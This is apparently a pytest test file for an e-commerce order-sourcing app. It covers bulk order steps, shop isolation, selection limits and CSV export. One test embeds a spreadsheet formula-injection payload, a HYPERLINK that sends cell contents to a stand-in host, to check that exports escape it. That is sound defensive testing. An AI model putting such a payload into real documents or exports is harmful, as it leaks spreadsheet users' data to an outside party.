from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from sourcing.orders.model import Order
from sourcing.purchasing import checkout, mend
from sourcing.purchasing.model import Purchase
from sourcing.shops.model import Shop
from tests.builders import a_parcel, a_purchase, a_shop, a_supplier, an_order, rows
from tests.web.api import OTHER, ask, everything, got, refused, rung
from tests.web.signing import bearer
from tests.web.stand_ins import HouseOfMemory

MANY = list(range(1, 1002))


@pytest.fixture(autouse=True)
def shop(app: Flask) -> None:
    with app.app_context(), rows() as session:
        for domain in ("demo-shop.myshopify.com", OTHER):
            a_supplier(session, a_shop(session, domain, timezone="Europe/Budapest"))


def bought(
    app: Flask, number: int, state: str | None = "quoted", domain: str = "demo-shop.myshopify.com", **fields: Any
) -> int:
    """An order with a purchase in this state, or with none; its id."""
    with app.app_context(), rows() as session:
        shop = session.scalars(select(Shop).where(Shop.domain == domain)).one()
        order = an_order(session, shop, number)
        if state:
            supplier = a_supplier(session, shop, f"S{number}")
            placed = {"trade_id": f"T{number}"} if state in {"placed", "paid", "shipping"} else {}
            a_purchase(session, order, supplier, state, **{**placed, **fields})
        return order.id


def states(app: Flask) -> list[str]:
    with app.app_context(), rows() as session:
        return list(session.scalars(select(Purchase.state).order_by(Purchase.id)))


def step(client: FlaskClient, what: str, *order_ids: int) -> list[tuple[int, bool, str]]:
    outcomes = got(client, f"POST /orders/steps/{what}", {"order_ids": order_ids})["outcomes"]
    assert all(bool(one["problem"]) is not one["done"] for one in outcomes)
    return [(one["order_id"], one["done"], one["state"]) for one in outcomes]


def test_all_orders_of_a_view_are_chosen_with_what_each_can(app: Flask, client: FlaskClient) -> None:
    ids = [bought(app, 1001), bought(app, 1002, "held"), bought(app, 1003, "refused"), bought(app, 1004, None)]
    bought(app, 1901, "quoted", OTHER)
    found = got(client, "POST /orders/select", {"view": {"sort": "oldest", "search": "#100"}})["orders"]
    assert [order["id"] for order in found] == ids
    assert [(order["can_pay"], order["can"]) for order in found] == [
        (True, ["hold"]),
        (False, ["release"]),
        (False, ["retry"]),
        (True, []),
    ]
    rows_of_list = got(client, "GET /orders?sort=oldest")["orders"]
    assert [(row["can_pay"], row["can"]) for row in rows_of_list] == [(one["can_pay"], one["can"]) for one in found]


def test_a_view_of_more_than_a_thousand_orders_is_not_chosen(app: Flask, client: FlaskClient) -> None:
    with app.app_context(), rows() as session:
        shop = session.scalars(select(Shop).where(Shop.domain != OTHER)).one()
        for number in range(1001):
            an_order(session, shop, 1001 + number)
    assert refused(client, "POST /orders/select", {"view": {}}) == (422, "TOO_MANY_ORDERS")
    assert len(got(client, "POST /orders/select", {"view": {"max_total": 4000, "search": "#1"}})["orders"]) == 999
    for call in ("POST /orders/steps/hold", "POST /orders/export"):
        assert ask(client, call, {"order_ids": MANY}).json["field"] == "order_ids"


def test_many_are_held_and_each_that_is_not_says_why(app: Flask, client: FlaskClient, house: HouseOfMemory) -> None:
    new, paid, none = bought(app, 1001), bought(app, 1002, "paid"), bought(app, 1003, None)
    outcomes = step(client, "hold", new, paid, none, new)
    assert outcomes == [(new, True, "held"), (paid, False, "paid"), (none, False, "")]
    assert states(app) == ["held", "paid"]
    assert step(client, "hold", new) == [(new, False, "held")]
    assert rung(house) == []


def test_many_are_released_and_go_on(app: Flask, client: FlaskClient, house: HouseOfMemory) -> None:
    held, quoted = bought(app, 1001, "held", code="HELD_BY_MERCHANT"), bought(app, 1002)
    assert step(client, "release", held, quoted) == [(held, True, "new"), (quoted, False, "quoted")]
    assert [ring[0] for ring in rung(house)] == ["advance"]


def test_trying_many_again_revives_nothing_that_somebody_cancelled(app: Flask, client: FlaskClient) -> None:
    refused_one, cancelled = bought(app, 1001, "refused"), bought(app, 1002, "cancelled")
    assert step(client, "retry", refused_one, cancelled) == [
        (refused_one, True, "new"),
        (cancelled, False, "cancelled"),
    ]
    with app.app_context():
        assert states(app) == ["new", "cancelled"]


def test_a_purchase_that_is_cancelled_while_many_are_tried_again_stays_cancelled(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    order = bought(app, 1001, "refused")
    own = checkout.own

    def cancelled_meanwhile(shop_id: int, purchase_id: int) -> Purchase:
        purchase = own(shop_id, purchase_id)
        purchase.state = "cancelled"
        return purchase

    monkeypatch.setattr(mend, "own", cancelled_meanwhile)
    assert [done for _, done, _ in step(client, "retry", order)] == [False]


@pytest.mark.parametrize("call", ["steps/hold", "steps/release", "steps/retry", "export"])
def test_one_order_of_another_shop_among_mine_has_nothing_done_with_any(
    app: Flask, client: FlaskClient, house: HouseOfMemory, call: str
) -> None:
    mine, theirs = bought(app, 1001), bought(app, 1901, "quoted", OTHER)
    before = everything(app)
    assert refused(client, f"POST /orders/{call}", {"order_ids": [mine, theirs]}) == (404, "ORDER_NOT_FOUND")
    assert everything(app) == before
    assert rung(house) == []


def exported(client: FlaskClient, body: dict[str, Any]) -> list[dict[str, str]]:
    answer = client.post("/api/orders/export", json=body, headers=bearer())
    assert (answer.status_code, answer.mimetype) == (200, "text/csv"), answer.text
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="caravan-orders-')
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufefforder,date,customer")
    assert text.count("\r\n") >= 1
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_an_export_has_every_order_of_the_view_with_what_it_costs(app: Flask, client: FlaskClient) -> None:
    order = bought(app, 1001, "shipping", real_goods_minor=1800, real_freight_minor=500, total_minor=2400)
    with app.app_context(), rows() as session:
        session.execute(
            update(Order).values(
                created_at=session.scalars(select(Order.created_at))
                .one()
                .replace(year=2026, month=7, day=1, hour=22, minute=30, second=0)
            )
        )
        a_parcel(session, session.scalars(select(Purchase)).one(), "YT1")
    (row,) = exported(client, {"order_ids": [order]})
    assert row == {
        "order": "#1001", "date": "2026-07-02 00:30:00", "customer": "Anna Kiss", "country": "HU", "stage": "to_place",
        "paid": "yes", "suppliers": "S1001", "goods": "18.00", "freight": "5.00", "total": "24.00", "currency": "USD",
        "margin": "16.00", "trade ids": "T1001", "tracking numbers": "YT1", "problem": "", "order total": "40.00",
        "order currency": "USD",
    }  # fmt: skip


def test_a_whole_view_is_exported_batch_by_batch_as_it_is_sorted(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sourcing.orders.export_orders._BATCH", 3)
    ids = [bought(app, 1001 + number, None) for number in range(7)]
    assert [row["order"] for row in exported(client, {"view": {"sort": "oldest"}})] == [
        f"#{1001 + n}" for n in range(7)
    ]
    assert [row["order"] for row in exported(client, {"order_ids": ids[::-1]})] == [f"#{1007 - n}" for n in range(7)]
    assert exported(client, {"view": {"tab": "cancelled"}}) == []


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_text_of_a_customer_is_calculated_by_a_spreadsheet(app: Flask, client: FlaskClient, sign: str) -> None:
    evil = f'{sign}HYPERLINK("http://a.example?"&A1;"x, y")'
    with app.app_context(), rows() as session:
        shop = session.scalars(select(Shop).where(Shop.domain != OTHER)).one()
        order = an_order(session, shop, customer_name=evil)
        a_purchase(session, order, a_supplier(session, shop, f"{sign}1+1"), goods_minor=9000)
    (row,) = exported(client, {"view": {}})
    assert row["customer"] == f"'{evil}"
    assert row["suppliers"] == f"'{sign}1+1"
    # A loss is a number of ours, and stays one.
    assert row["margin"] == "-55.00"


def test_an_export_is_of_orders_or_of_a_view(client: FlaskClient) -> None:
    for body in ({}, {"order_ids": [1], "view": {}}):
        assert refused(client, "POST /orders/export", body) == (422, "INPUT_WRONG")
    assert refused(client, "POST /orders/export", {"view": {"tab": "moon"}}) == (422, "TAB_UNKNOWN")
